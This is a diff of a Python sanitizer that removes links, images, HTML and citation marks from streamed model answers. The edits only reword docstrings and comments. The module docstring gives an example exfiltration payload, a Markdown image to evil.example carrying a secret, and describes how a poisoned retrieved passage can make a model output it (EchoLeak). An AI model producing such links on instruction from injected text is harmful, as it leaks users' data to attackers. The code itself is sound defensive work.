@@ -1,8 +1,8 @@
 """Removes links, images, HTML and citation marks from answers, whole or while they stream.
 
-A model repeats its passages, so a poisoned document can make it write `![](https://evil.example/?q=SECRET)`, and many
-chat windows fetch that image without asking (EchoLeak, CVE-2025-32711). Markdown links are reduced to their text, URLs are
-removed, and a space breaks any remaining HTML or Markdown link.
+A model repeats its passages, so a poisoned document can make it write `![](https://evil.example/?q=SECRET)`, and many chat
+windows fetch that image without asking (EchoLeak, CVE-2025-32711). Markdown links are reduced to their text, URLs are removed,
+and a space breaks any HTML or Markdown link that remains.
 """
 
 from __future__ import annotations
@@ -25,7 +25,7 @@ _TAG = re.compile(r"</?[A-Za-z][^<>]{0,500}>|<!--.{0,500}?-->", re.DOTALL)
 _URL = re.compile(
     r"(?i)(?:[a-z][a-z0-9+.-]{1,20}://|\b(?:javascript|data|vbscript|mailto|file|tel):(?=\S)|\bwww\.)[^\s<>\[\]\"'`]*"
 )
-# No pattern finds every reference definition: it may be in a list or quotation, with label and destination on several lines.
+# Breaks what the patterns above miss: a reference definition may be in a list or a quotation, or run over several lines.
 _LINK_REMNANT = re.compile(r"\](?=[(:])|<(?=[A-Za-z/!?])|!(?=\[)")
 
 
@@ -37,9 +37,7 @@ def without_links(text: str, link_hosts: Sequence[str] = ()) -> str:
     >>> without_links("See https://nasa.gov/moon.", ["nasa.gov"])
     'See https://nasa.gov/moon.'
 
-    Args:
-        text: of an answer.
-        link_hosts: bare http:// and https:// URLs on these hosts stay.
+    Bare http:// and https:// URLs on one of `link_hosts` stay.
     """
     before = None
     while before != text:  # a removal may leave another link behind
@@ -65,9 +63,9 @@ def _checked_url(found: str, link_hosts: Sequence[str]) -> str:
     return found if allowed else LINK_REMOVED + tail
 
 
-# The end of a growing text that later text may still change: an open bracket or tag, an unfinished URL or number, spaces and
-# punctuation, and a word before a colon or bracket (a URL may begin with it). These patterns match the reversed text from the
-# cut on; in the text itself, each would be tried at every character before the cut.
+# Later text may still change the end of a growing text: an open bracket or tag, an unfinished URL or number, spaces and
+# punctuation, and a word before a colon or bracket, which may begin a URL. These patterns find that end in the reversed text,
+# where each is tried only once; in the text itself, each would be tried at every character.
 _BRACKET = re.compile(r"[\[(【\])】>]|(?<!\s)<")
 _OPENED_BY = {"]": "[", ")": "(", "】": "【", ">": "<"}
 _LONGEST_OPEN = 900
@@ -78,10 +76,10 @@ _JOINED = re.compile(r"(?<=[:\[【<])[!-~]+|(?<=\.)[Ww]{3}")
 
 
 class AnswerText:
-    """Sanitizes an answer while it grows; the returned pieces add up to the sanitized whole.
+    """Sanitizes an answer while it grows; the returned pieces add up to the sanitized answer.
 
     Args:
-        passages: those in the prompt, for citation marks.
+        passages: the passages in the prompt, to which citation marks refer.
         link_hosts: as in `without_links`.
     """
 
@@ -92,7 +90,7 @@ class AnswerText:
         """All text returned so far."""
 
     def add(self, piece: str) -> str:
-        """Add a raw piece; returns the text that can be shown now, without an end that later text may turn into a link."""
+        """Add a raw piece; returns the text that can be shown now, without an end that may still become a link."""
         self._raw += piece
         before, self._end = self._end, _settled(self._raw)
         if self._end == before:
@@ -107,7 +105,7 @@ class AnswerText:
         return self._next(self._clean(self._raw))
 
     def whole(self) -> str:
-        """The whole sanitized answer, if no more pieces follow."""
+        """The whole sanitized answer, when it is complete."""
         return self._clean(self._raw)
 
     def _clean(self, raw: str) -> str:
@@ -124,7 +122,7 @@ class AnswerText:
 
 
 def _settled(raw: str) -> int:
-    """The length of the beginning that later text cannot change."""
+    """The length of the start of the text that no later text can change."""
     reversed_text = raw[::-1]
     cut = _end(_UNFINISHED_WORD, reversed_text, 0)
     before = -1
